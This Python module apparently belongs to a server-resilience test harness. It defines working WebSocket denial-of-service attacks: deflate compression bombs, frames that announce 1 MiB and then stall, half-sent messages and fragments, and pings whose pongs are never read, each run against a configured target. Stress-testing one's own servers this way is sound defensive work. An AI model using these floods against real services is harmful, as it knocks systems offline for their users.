"""Frames and messages: what inflates, what is announced, what never becomes whole."""
import time

import wire
from attack import attack
from http_attacks import hold, push

BOMB = wire.frame(wire.deflated(b"\0" * (1 << 20)), compressed=True)


def bombs(path, connections):
    def run(target, _prepared, until):
        def one():
            return wire.Feed(wire.upgrade(target.port, path, deflate=True), BOMB * 64)
        return wire.feed_all(until, [one() for _ in range(connections)], again=one)
    return run


for where, path in (("echo", "/echo"), ("room", "/broadcast/bombs")):
    for count in (1, 4, 64):
        attack(f"bombs-{where}-{count}", f"{count} connection{'s' * (count > 1)} send{'s' * (count == 1)} messages of 1 KB that inflate to 1 MiB, to {path}")(bombs(path, count))


@attack("announced-frames", "4,000 frames that announce 1 MiB and stop behind the header")
def announced_frames(target, _prepared, until):
    said = wire.frame(b"", announced=1 << 20)
    sockets = wire.many(target.port, ["/echo"] * target.count(4000))
    sent = sum(push(sock, said) for sock in sockets)
    hold(target, sockets, until)
    return sent


@attack("half-messages", "500 messages of 1 MB of which the last byte does not come, and then their senders leave")
def half_messages(target, _prepared, until):
    said = wire.frame(b"m" * 999_999, announced=1_000_000)
    sockets, sent = [], 0
    for _ in range(target.count(500)):
        if time.monotonic() > until:
            break
        sockets.append(wire.upgrade(target.port, "/echo"))
        sent += push(sockets[-1], said)
    hold(target, sockets, until)
    return sent


@attack("half-fragments", "500 messages of 1 MB in fragments of which the last does not come, and then their senders leave")
def half_fragments(target, _prepared, until):
    first = bytearray(wire.frame(b"m" * 125_000))
    first[0] = 0x02
    more = bytearray(first)
    more[0] = 0x00
    said = bytes(first + more * 7)
    sockets, sent = [], 0
    for _ in range(target.count(500)):
        if time.monotonic() > until:
            break
        sockets.append(wire.upgrade(target.port, "/echo"))
        sent += push(sockets[-1], said)
    hold(target, sockets, until)
    return sent


@attack("pings-unread", "4 connections send pings and never read the pongs")
def pings_unread(target, _prepared, until):
    said = wire.frame(b"p" * 125, opcode=9) * 500

    def one():
        return wire.Feed(wire.upgrade(target.port, "/echo"), said, reads=False)
    return wire.feed_all(until, [one() for _ in range(4)], again=one)
